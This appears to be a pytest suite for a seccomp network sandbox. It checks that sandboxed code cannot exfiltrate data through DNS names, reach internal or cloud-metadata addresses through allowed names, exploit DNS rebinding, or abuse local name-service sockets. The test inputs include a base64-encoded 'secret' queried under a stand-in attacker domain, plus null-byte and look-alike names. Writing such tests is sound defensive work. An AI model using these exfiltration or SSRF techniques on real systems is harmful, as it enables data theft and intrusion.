"""Rows 19, 20, 21, 24, 48: names as a way out, and names as a way in."""

from __future__ import annotations

import os
import socket
import subprocess
from pathlib import Path
from typing import Any

import pytest
from resolving import RESOLVING

import rampart_seccomp as rampart
from rampart_seccomp.calls import sockets

pytestmark = pytest.mark.core

SITE = "127.200.0.1"  # stands for an address of the internet: tests/naming.py
WAYS = {
    "the library": "print('ok' if lookup(name) != 'none' else 'NXDOMAIN')",
    "a datagram": "print(datagram(V4, ('192.0.2.1', 53), name, kind))",
    "a connected socket": "print(datagram(V4, ('192.0.2.1', 53), name, kind, connected=True))",
    "a message": (
        "send = lambda end, data, to: end.sendmsg([data[:5], data[5:]], [], 0, to)\n"
        "print(datagram(V4, ('192.0.2.1', 53), name, kind, send=send))"
    ),
    "TCP": "print(stream(V4, ('192.0.2.1', 53), name, kind))",
    "this machine's own server": "print(datagram(V4, ('127.0.0.1', 53), name, kind))",
    "the unspecified address": "print(datagram(V4, ('0.0.0.0', 53), name, kind))",
    "v4-mapped": "print(datagram(V6, ('::ffff:192.0.2.1', 53), name, kind))",
    "v4-mapped TCP": "print(stream(V6, ('::ffff:192.0.2.1', 53), name, kind))",
    "IPv6": "print(datagram(V6, ('2001:db8::1', 53), name, kind))",
    "IPv6, TCP": "print(stream(V6, ('2001:db8::1', 53), name, kind))",
    "multicast": "print(datagram(V4, ('224.0.0.251', 53), name, kind))",
}


@pytest.mark.parametrize("way", WAYS)
def test_query_names(way: str, by_name: Any, ask: Any, project: Any) -> None:
    """Row 24: a query name carries nothing out, whatever server it is for; an allowed one is resolved."""
    by_name.server.zone["site.example"] = [("A", SITE), ("TXT", '"text"')]
    kinds = (1,) if way == "the library" else (1, 16)
    names = ("site.example", "c2VjcmV0.evil.example", "c2VjcmV0.site.example")
    steps = "\n".join(f"name, kind = {name!r}, {kind}\n{WAYS[way]}" for name in names for kind in kinds)

    done = ask(steps, by_name.policy("site.example:443"))

    expected = [answer for answer in ("ok", "NXDOMAIN", "NXDOMAIN") for _ in kinds]
    assert done.lines == expected
    assert {name for name, _ in by_name.server.asked} == {"site.example"}
    denied = [record for record in project.records() if record["verdict"] == "deny"]
    expected = {"c2vjcmv0.evil.example", "c2vjcmv0.site.example"}
    assert {record["names"][0] for record in denied} == expected
    assert all((record["operation"], record["protocol"]) == ("connect", "dns") for record in denied)
    assert {record["exe"].rpartition("/")[2][:6] for record in denied} == {"python"}
    assert {denial.object for denial in done.denials} >= {"c2vjcmv0.evil.example (DNS A)"}


@pytest.mark.parametrize(
    "name", ["evil.example\\0.site.example", "SITE.example.evil.example", "*.site.example"]
)
def test_names_that_look_allowed(name: str, by_name: Any, ask: Any) -> None:
    """Row 24: names are judged canonically; control: upper case and a trailing dot change nothing."""
    by_name.server.zone["site.example"] = [("A", SITE)]
    policy = by_name.policy("site.example:443")
    done = ask(f"print(datagram(V4, ('192.0.2.1', 53), b'{name}'))\nprint(lookup('SITE.Example.'))", policy)
    assert done.lines == ["NXDOMAIN", str([SITE])]
    assert {name for name, _ in by_name.server.asked} == {"site.example"}


def test_vector_of_queries(by_name: Any, ask: Any) -> None:
    """Row 19: of a vector of datagrams each is answered by its name; others are judged as ever."""
    by_name.server.zone["site.example"] = [("A", SITE)]
    steps = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]
class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("length", ctypes.c_uint32), ("vector", ctypes.POINTER(Vector)),
        ("count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_size", ctypes.c_size_t),
        ("flags", ctypes.c_long), ("sent", ctypes.c_uint32)]
def message(name, host, port):
    data = question(name, 1)
    to = struct.pack("=H", V4) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
    return Message(to, 16, ctypes.pointer(Vector(data, len(data))), 1)
end = socket.socket(V4, UDP)
end.settimeout(10)
vector = (Message * 3)(message("site.example", "192.0.2.1", 53), message("evil.example", "192.0.2.2", 53),
    message("site.example", "192.0.2.1", 54))
print(libc.sendmmsg(end.fileno(), vector, 3, 0))
print(sorted(code(end.recv(4096)) for _ in range(2)))
"""
    done = ask(steps, by_name.policy("site.example:443"))
    assert done.lines == ["2", "['NXDOMAIN', 'ok']"]
    assert by_name.server.asked == [("site.example", "A")]
    assert {denial.object for denial in done.denials} == {"evil.example (DNS A)", "192.0.2.1:54"}


def test_literal_addresses(by_name: Any, ask: Any, project: Any) -> None:
    """Row 24: an address has no name before the tree was given it for one; then the name's ports count."""
    by_name.server.zone["site.example"] = [("A", SITE)]
    port, other = by_name.site(SITE), by_name.site(SITE)
    steps = f"""
print(reach("{SITE}", {port}))
print(lookup("site.example"))
print(reach("{SITE}", {port}), reach("::ffff:{SITE}", {port}), reach("{SITE}", {other}))
"""
    done = ask(steps, by_name.policy(f"site.example:{port}"))
    assert done.lines == ["ECONNREFUSED", str([SITE]), "hello hello ECONNREFUSED"]
    assert len(by_name.requests) == 2
    connected = [record for record in project.records() if record.get("protocol") == "tcp"]
    assert [(record["verdict"], record["names"]) for record in connected] == [
        ("deny", []),
        ("allow", ["site.example"]),
        ("allow", ["site.example"]),
        ("deny", ["site.example"]),
    ]


@pytest.mark.parametrize("call", ["fastopen", "sendto"])
def test_data_without_a_connection(call: str, by_name: Any, calls: Any, project: Any) -> None:
    """Row 20: data with the first packet, or as a datagram, needs what a connection needs."""
    kind, name = (socket.SOCK_STREAM, "tcp") if call == "fastopen" else (socket.SOCK_DGRAM, "udp")
    with socket.socket(socket.AF_INET, kind) as server:
        server.bind((SITE, 0))
        if kind == socket.SOCK_STREAM:
            server.listen()
        server.setblocking(False)
        port = server.getsockname()[1]
        steps = [f"socket,{name}", f"{call},{SITE},{port}"]
        answers = calls(steps, by_name.policy(f"site.example:{port}")).answers
        assert answers[-1] in ("ECONNREFUSED", "EOPNOTSUPP")
        with pytest.raises(BlockingIOError):
            server.recvfrom(1) if kind == socket.SOCK_DGRAM else server.accept()
        assert calls(steps, by_name.policy(f"{SITE}:{port}")).answers[-1] in ("4", "EOPNOTSUPP")
        if kind == socket.SOCK_DGRAM:
            assert server.recv(4) == b"leak"


@pytest.mark.parametrize(
    "address", ["127.0.0.1", "169.254.169.254", "10.0.0.1", "0.0.0.0", "::1", "fd00:ec2::254"]
)
def test_names_that_lead_inside(address: str, by_name: Any, ask: Any, project: Any) -> None:
    """Row 48: an allowed name does not become a way to what is inside; an address rule for it opens it."""
    kind = "AAAA" if ":" in address else "A"
    by_name.server.zone["site.example"] = [(kind, address)]
    local = by_name.site("127.0.0.1")
    steps = f"print(lookup('site.example'))\nprint(reach('{address}', {local}))"

    done = ask(steps, by_name.policy(f"site.example:{local}"))

    assert done.lines == ["none", "ECONNREFUSED"]
    assert by_name.requests == []
    assert any("address inside" in record["where"] for record in project.records())
    if address == "127.0.0.1":
        opened = by_name.policy(f"site.example:{local}", f"127.0.0.1:{local}")
        assert ask(steps, opened).lines == [str([address]), "hello"]
        assert by_name.requests == ["/through"]


def test_inside_on_another_port(by_name: Any, ask: Any) -> None:
    """Row 48: an address rule opens the ports that it names, and the name opens none beside them."""
    by_name.server.zone["site.example"] = [("A", "127.0.0.1")]
    database, other = by_name.site("127.0.0.1"), by_name.site("127.0.0.1")
    policy = by_name.policy("site.example", f"127.0.0.1:{database}")
    steps = (
        f"print(lookup('site.example'))\nprint(reach('127.0.0.1', {database}), reach('127.0.0.1', {other}))"
    )
    assert ask(steps, policy).lines == ["['127.0.0.1']", "hello ECONNREFUSED"]
    assert len(by_name.requests) == 1


def test_rebinding(by_name: Any, ask: Any) -> None:
    """Row 24: a name that leads outside at first and inside later leads nowhere then; what it had stays."""
    port = by_name.site(SITE)
    local = by_name.site("127.0.0.1")
    by_name.server.zone["site.example"] = [("A", SITE)]
    turns = iter([[("A", SITE)], [("A", "127.0.0.1")], [("A", "127.0.0.1")]])
    records = by_name.server._records

    def turning(name: str, kind: str) -> Any:
        if kind == "A":
            by_name.server.zone["site.example"] = next(turns)
        return records(name, kind)

    by_name.server._records = turning
    steps = f"""
for _ in range(2):
    print(lookup("site.example"))
print(reach("127.0.0.1", {local}), reach("{SITE}", {port}))
"""
    done = ask(steps, by_name.policy(f"site.example:{port},{local}"))
    assert done.lines == [str([SITE]), "none", "ECONNREFUSED hello"]
    assert by_name.requests == ["/through"]


def test_answers_are_of_one_tree_and_one_policy(by_name: Any, project: Any) -> None:
    """Rows 24 and 48: what one tree got is not another's, nor a name's that is allowed no more."""
    by_name.server.zone |= {"site.example": [("A", SITE)], "other.example": [("A", SITE)]}
    port = by_name.site(SITE)
    look = (
        RESOLVING
        + f"""
for line in sys.stdin:
    print(lookup(line.strip()) if line.strip() else reach("{SITE}", {port}), flush=True)
"""
    )
    with by_name.broker(by_name.policy(f"site.example:{port}")) as broker:
        trees = [
            rampart.Popen(
                ["python3", "-c", look],
                broker=broker,
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                text=True,
                env=project.environment,
            )
            for _ in range(2)
        ]

        def say(tree: int, word: str) -> str:
            trees[tree].stdin.write(word + "\n")
            trees[tree].stdin.flush()
            return str(trees[tree].stdout.readline().strip())

        assert [say(0, "site.example"), say(0, ""), say(1, "")] == [str([SITE]), "hello", "ECONNREFUSED"]
        broker.update(by_name.policy(f"other.example:{port}"))
        assert [say(0, ""), say(0, "site.example")] == ["ECONNREFUSED", "none"]
        assert [say(0, "other.example"), say(0, "")] == [str([SITE]), "hello"]
        assert say(1, "") == "ECONNREFUSED"
        for tree in trees:
            tree.communicate()


def test_name_services_beside_dns(
    by_name: Any, attacker: Any, monkeypatch: pytest.MonkeyPatch, project: Any
) -> None:
    """Row 48: sockets of nscd, resolved, sssd and avahi are closed, though a rule allows every connection."""
    program = attacker("calls")
    path = project.base / "nscd" / "socket"
    path.parent.mkdir()
    everything = by_name.policy("site.example").with_rules(rampart.allow("connect", name="all"))
    steps = ["socket,unix", f"connect,unix,{path}"]
    assert all(name.endswith(b"/") for name in sockets._NAME_SERVICES)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        assert by_name.run([program, *steps], everything).stdout.split()[-1] == "0"
        monkeypatch.setattr(sockets, "_NAME_SERVICES", (bytes(path.parent) + b"/",))
        assert by_name.run([program, *steps], everything).stdout.split()[-1] == "ECONNREFUSED"
    assert any("name service" in record["where"] for record in project.records())


def test_own_resolv_conf(by_name: Any, ask: Any) -> None:
    """A tree reads a resolv.conf with its own server, and cannot write it; the host's stays as it is."""
    path = Path("/etc/resolv.conf")
    if not path.exists():
        pytest.skip("this machine has no resolv.conf")
    before = path.read_text()
    steps = """
import os
text = open("/etc/resolv.conf").read()
print([line.split()[1].rpartition(".")[0][:6] for line in text.splitlines() if line.startswith("nameserver")])
fd = os.open("/etc/resolv.conf", os.O_RDONLY)
assert os.readlink(f"/proc/self/fd/{fd}").startswith("/memfd:")  # never write to the host's
try:
    os.write(os.open(f"/proc/self/fd/{fd}", os.O_RDWR), b"nameserver 192.0.2.1")
except OSError as error:
    print(errno.errorcode[error.errno] in ("EPERM", "EACCES"))
"""
    done = ask(steps, by_name.policy("site.example"))
    assert done.lines == ["['127.83']", "True"]
    assert path.read_text() == before
    nameless = ask(steps.partition("fd =")[0], by_name.policy("10.0.0.1:1"))
    assert nameless.lines[0] != "['127.83']"


def test_resolvers_that_look_who_answers(by_name: Any, ask: Any) -> None:
    """An answer comes from the address that resolv.conf names; from port 53, too, where that may be bound."""
    by_name.server.zone["site.example"] = [("A", SITE)]
    steps = """
words = [line.split() for line in open("/etc/resolv.conf")]
server = next(given[1] for given in words if given[:1] == ["nameserver"]), 53
with socket.socket(V4, UDP) as end:
    end.settimeout(10)
    end.sendto(question("site.example", 1), server)
    reply, source = end.recvfrom(4096)
    print(code(reply), source[0] == server[0], source == server)
"""
    lowest = int(Path("/proc/sys/net/ipv4/ip_unprivileged_port_start").read_text())
    whole = os.geteuid() == 0 or lowest <= 53
    assert ask(steps, by_name.policy("site.example")).lines == [f"ok True {whole}"]


def test_a_dead_resolver_keeps_nobody_waiting(by_name: Any, ask: Any) -> None:
    """Row 30: while the host's resolver does not answer, denied names and everything else go on at once."""
    by_name.server.silent = True
    steps = """
import threading, time
waiting = [threading.Thread(target=lookup, args=("site.example",), daemon=True) for _ in range(20)]
for each in waiting:
    each.start()
time.sleep(0.5)
began = time.monotonic()
for _ in range(20):
    print(lookup("evil.example"), end=" ")
    open("/etc/hostname").close()
print(time.monotonic() - began < 2)
"""
    assert ask(steps, by_name.policy("site.example")).stdout.split() == ["none"] * 20 + ["True"]


def test_a_tree_is_not_taken_for_the_resolver_of_the_host(by_name: Any, ask: Any, project: Any) -> None:
    """Without a server in resolv.conf 127.0.0.1 is asked: nothing of the tree answers there."""
    steps = """
for family, kind, host in [(V4, UDP, "127.77.0.1"), (V4, TCP, "127.77.0.1"), (V6, UDP, "::ffff:127.77.0.1")]:
    for port in 53, 5353:
        with socket.socket(family, kind) as end:
            try:
                end.bind((host, port))
                print("bound", end=" ")
            except OSError as error:
                print(errno.errorcode[error.errno], end=" ")
"""
    assert ask(steps, by_name.policy("site.example")).stdout.split() == ["EACCES", "bound"] * 3
    assert [record["where"] for record in project.records() if record["verdict"] == "deny"] == [
        "built-in: a name service beside the broker's"
    ] * 3
    if os.geteuid() == 0:
        assert ask(steps, by_name.policy("10.0.0.1:1")).stdout.split() == ["bound", "bound"] * 3
